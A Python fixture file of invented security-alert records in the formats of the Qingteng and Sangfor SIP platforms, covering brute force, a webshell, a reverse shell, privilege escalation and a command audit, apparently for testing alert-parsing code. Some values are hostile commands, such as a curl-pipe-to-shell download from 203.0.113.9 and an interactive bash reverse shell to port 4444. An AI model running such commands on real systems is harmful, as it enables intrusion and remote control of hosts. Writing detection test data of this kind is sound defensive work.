"""Records of Qingteng (青藤万相) and Sangfor SIP (深信服安全感知平台) in the shapes that public material shows; every value is invented."""

from typing import Any

SIP_ALARM: dict[str, Any] = {
    "alert_id": 217820081, "hash_id": "c6" * 16, "attack_ip": "203.0.113.66", "suffer_ip": "10.0.3.15",
    "event_desc": "SSH 口令暴力破解", "brief": "SSH 口令暴力破解", "emergency": "important", "attack_state": 2,
    "first_time": 1795134600, "last_time": 1795138200, "updated_at": 1795138300, "created_at": 1795134700,
    "module_type": 204, "module_type_name": "账号攻击", "attack_type": 2, "attack_type_name": "账号爆破",
    "sub_attack_type": 1, "sub_attack_type_name": "口令暴力破解", "attack_port": 32479, "suffer_port": 22,
    "engine": "异常行为引擎", "reliability": 3, "count": 113, "is_white": 0, "is_read": 0, "misreport": 0,
    "multi_deal_status": 0, "linkage_status": 0, "status_code": [], "x_forwarded_for": [], "url": [],
    "ioc": ["c2.example.net"], "hole_ids": [17820081], "log_ids": [7089466310673600513], "tags": "口令暴力破解",
    "event_evidence": "开始时间: 2026-11-20 08:30:00 失败次数: 113", "damage": "账号可能被盗用",
    "suggest": "1、确认攻击者地址\\n\\n2、封禁 IP", "suffer_branch_name": "", "attack_country": "未知",
    "dev_name": "SANGFOR STA(10.0.9.8)", "dev_id": "D21A362F", "record_date": 20261120, "invasion_stage": 2,
}  # fmt: skip
SIP_EVENT: dict[str, Any] = {
    "ip": "10.0.3.15", "hostName": "", "hostRisk": "10.0.3.15(办公网)", "eventKey": "coengine|117830036",
    "ruleId": "117830036", "event_content": "主机访问了勒索病毒通信域名", "brief": "主机访问了勒索病毒通信域名",
    "emergency": "emergent", "threat_level": 3, "suspect_level": 2, "attack_state": 0, "stage": 4, "role": 2,
    "firstTime": 1795134600, "log_time": "2026-11-20 09:30:00", "recordDate": 20261120, "tag": ["勒索病毒"],
    "module_name": "感染恶意文件", "sub_attack_name": "勒索", "detectEngine": "安全日志分析引擎", "count": 2,
    "src_ip": "10.0.3.15", "dst_ip": "203.0.113.9", "src_port": 0, "dst_port": "", "domain_name": "c2.example.net",
    "url": "", "principle": "该域名用于勒索病毒通信", "solution": "1、查杀", "event_evidence": "", "dealStatus": "",
    "vulnerability_name": "", "email_from": "", "branchId": "17", "branch_name": "-",
}  # fmt: skip
SIP_HEADER = "<14>2026-11-20 09:30:01|!{}|!10.0.9.9|!"

_QINGTENG: dict[str, Any] = {
    "agentId": "979f3c4d44b2e765", "displayIp": "10.0.3.15", "connectionIp": "10.0.0.1", "externalIp": None,
    "internalIp": "10.0.3.15", "bizGroupId": 37, "bizGroup": "支付", "remark": None, "hostTagList": ["核心"],
    "hostname": "pay-gateway-3",
}  # fmt: skip
_SEEN = 1795134600
QT_BRUTE: dict[str, Any] = {
    **_QINGTENG, "id": "tFU7aUo3example==", "serviceType": 1, "loginTime": _SEEN, "clientIp": "203.0.113.66",
    "block": -1, "serverName": "sshd",
}  # fmt: skip
QT_LOGIN: dict[str, Any] = {
    **_QINGTENG, "loginTime": _SEEN, "uname": "root", "clientIp": "203.0.113.66", "clientLocation": "境外",
    "evilIpDb": 0, "crackSuccess": 1, "abnormalIp": 1, "abnormalLocation": 1, "abnormalTime": 0,
    "whiteRuleEffect": False,
}  # fmt: skip
QT_WEBSHELL: dict[str, Any] = {
    **_QINGTENG, "id": "5a5dd69c7d76example", "type": 5, "typeDesc": "已知后门", "serverName": "www.example.com",
    "filePath": "/var/www/html/ii.php", "fileMd5": "ab" * 16, "fileSize": 16, "regexDesc": "PHP WebShell特征码",
    "matchCount": 1, "modifyTime": 1505122390, "whiteRuleEffect": False,
}  # fmt: skip
QT_SHELL: dict[str, Any] = {
    **_QINGTENG, "createTime": _SEEN, "pid": 21794, "processName": "bash", "targetIp": "203.0.113.9",
    "targetPort": 4444, "userName": "root", "currentPath": "/root", "groupName": "root", "parentPid": 44382,
    "parentName": "bash", "parentPath": "/bin/bash", "stdInfo": "stdin,stderr,stdout", "whiteRuleEffect": False,
    "processTree": [{"pid": 1, "name": "init", "cmd": "/sbin/init"}, {"pid": 21794, "name": "bash", "cmd": "bash -i"}],
}  # fmt: skip
QT_RIGHTS: dict[str, Any] = {
    **_QINGTENG, "time": _SEEN, "procPid": 67537, "procName": "su", "procPath": "/bin/su", "procUserName": "www",
    "procGroupName": "www", "procFileMode": "104755", "parentProcPid": 67533, "parentProcName": "dcow",
    "parentProcPath": "/home/www/dcow", "parentProcUserName": "www", "whiteRuleEffect": False,
    "processTreeList": [{"pid": 67537, "name": "su", "cmd": "su -"}],
}  # fmt: skip
QT_BACKDOOR: dict[str, Any] = {
    **_QINGTENG, "createTime": _SEEN, "backDoorType": "Rootkit", "backDoorName": '检查"/bin/tar"命令',
    "backDoorCheckName": "基本命令检查", "description": "检查命令中的特征值", "detail": '{"cmd":"/bin/tar"}',
    "instruct": "替换相应命令", "whiteRuleEffect": False,
}  # fmt: skip
QT_WINDOWS: dict[str, Any] = {
    **_QINGTENG, "createTime": _SEEN, "backDoorTypeId": 1, "name": "进程svchost.exe加载异常网络模块",
    "reason": "存在被动态加载的网络模块", "whiteRuleEffect": False,
    "data": {"item": {"process_id": 1480, "process_name": "svchost.exe", "image_file_name": "C:\\Users\\a\\svchost.exe"},
             "ret_code": "0x00000005"},
}  # fmt: skip
QT_HONEYPOT: dict[str, Any] = {
    **_QINGTENG, "time": _SEEN, "clientIp": "203.0.113.66", "port": 11, "whiteRuleEffect": False,
}  # fmt: skip
QT_COMMAND: dict[str, Any] = {
    **_QINGTENG, "logTime": _SEEN, "cmd": "curl http://203.0.113.9/a.sh | sh", "hitRuleName": ["curl下载黑客工具"],
    "status": [3], "loginUser": "root", "loginIp": "203.0.113.66", "auditStatus": 1,
}  # fmt: skip
QT_PAIRS = (
    'datatype="bounce_shell" agent_ip="10.0.3.15" host_name="pay-gateway-3" internal_ip="10.0.3.15" '
    'external_ip="1.1.1.1" agent_id="979f3c4d44b2e765" group_name="支付" event_type="bounce_shell" '
    'event_name="反弹 Shell" event_level="danger" event_content="bash 进程连接 203.0.113.9:4444" '
    'datatime="2026-11-20 08:30:00" dst_ip="203.0.113.9" port="4444" pname="bash" pid="21794" cmd="bash -c \\"id\\"" '
    'uname="root" hit_rule_names="反弹shell\\,可疑外联"'
)
QT_LINE = f"<14>2026-11-20T08:30:05+08:00 sensor-1 qtAlert[679] {QT_PAIRS}"


def rows(*records: dict[str, Any]) -> dict[str, Any]:
    """The answer of a query of Qingteng."""
    return {"rows": list(records), "total": len(records), "charts": {}}
